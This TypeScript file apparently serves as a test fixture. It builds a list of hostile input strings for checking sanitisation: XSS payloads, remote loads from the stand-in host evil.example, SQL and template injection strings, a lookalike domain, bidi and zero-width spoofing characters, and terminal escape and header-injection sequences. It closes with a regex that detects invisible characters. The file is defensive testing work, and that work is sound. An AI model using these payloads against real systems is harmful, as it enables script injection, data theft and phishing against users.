/**
 * Texts that try to run, to load, to mislead or to break what is around them. Whatever runs would call
 * `window.pwned()` or ask `evil.example`; nothing may.
 */
const running = 'window.pwned=1;alert(1)';
const elsewhere = 'https://evil.example/x';

/** One of each kind; every one is met in several surroundings below. */
const kinds: readonly string[] = [
  `<script>${running}</script>`,
  `<script src="${elsewhere}.js"></script>`,
  `<img src=x onerror="${running}">`,
  `<img src="${elsewhere}.png">`,
  `<svg onload="${running}">`,
  `<svg><script>${running}</script></svg>`,
  `<svg><animate onbegin="${running}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
  `<iframe src="javascript:${running}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${elsewhere}"></object>`,
  `<embed src="${elsewhere}">`,
  `<link rel=stylesheet href="${elsewhere}.css">`,
  `<style>@import url("${elsewhere}.css");*{background:url(${elsewhere}.gif)}</style>`,
  `<base href="${elsewhere}/">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<form action="${elsewhere}"><button>Confirm</button></form>`,
  `<a href="javascript:${running}">tap</a>`,
  `<a href="${elsewhere}" ping="${elsewhere}/ping">tap</a>`,
  `<body onload="${running}">`,
  `<details open ontoggle="${running}">`,
  `<input autofocus onfocus="${running}">`,
  `<video><source onerror="${running}"></video>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${running}>`,
  `javascript:${running}`,
  `java\tscript:${running}`,
  `JaVaScRiPt&colon;${running}`,
  `data:text/html,<script>${running}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `https://dunlin.example@evil.example/x`,
  `https://dunlin.exаmple/log-in`,
  `[tap](javascript:${running})`,
  `![x](${elsewhere}.png)`,
  `\${${running}}`,
  `{{constructor.constructor('${running}')()}}`,
  `';${running};//`,
  `"><script>${running}</script>`,
  `--></style></script><script>${running}</script>`,
  `\u202Egpj.tnemyap\u202C`,
  `\u2066\u2067admin\u2069 \u200F\u061C`,
  `pay\u200Bpal\u2060 \uFEFFsup\u00ADport`,
  `Z\u0351\u036B${'\u0343'.repeat(60)}`,
  `\u001B[2J\u001B[31mroot#\u001B]0;owned\u0007\u009B31m`,
  `\u0000\b\b\b\u007F\r\nSet-Cookie: a=b`,
  `\u3164\u115F\u1160\u2800\uFFA0`,
  `'; DROP TABLE users; --`,
  'A'.repeat(20_000),
];

/** Surroundings that have made harmless halves whole elsewhere. */
const surroundings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Hello ${text} goodbye`,
  (text) => `${text.toUpperCase()} NOW`,
  (text) => `"'>${text}<"'`,
  (text) => `&#x202E;${text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
  (text) => `%00${encodeURIComponent(text.toWellFormed())}`,
  (text) => text.split('').join('\u200B').slice(0, 2_000),
  (text) => `\u202E${text}\u2066`,
  (text) => `\n\n${text}\r\n${text.slice(0, 200)}\u2028`,
  (text) => `@someone https://evil.example/#${text} :)`,
];

/** All of them: each kind in each surrounding. */
export function hostileTexts(): readonly string[] {
  return kinds.flatMap((kind) => surroundings.map((surround) => surround(kind)));
}

/** What may never stand in a text that others see: controls but line breaks, and what turns or hides it. */
export const unseenInText =
  // oxlint-disable-next-line no-control-regex -- these are what is looked for
  /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u00AD\u061C\u115F\u1160\u200B\u200E\u200F\u2028\u2029\u202A-\u202E\u2060-\u206F\u2800\u3164\uFEFF\uFFA0]|\p{M}{5}/u;
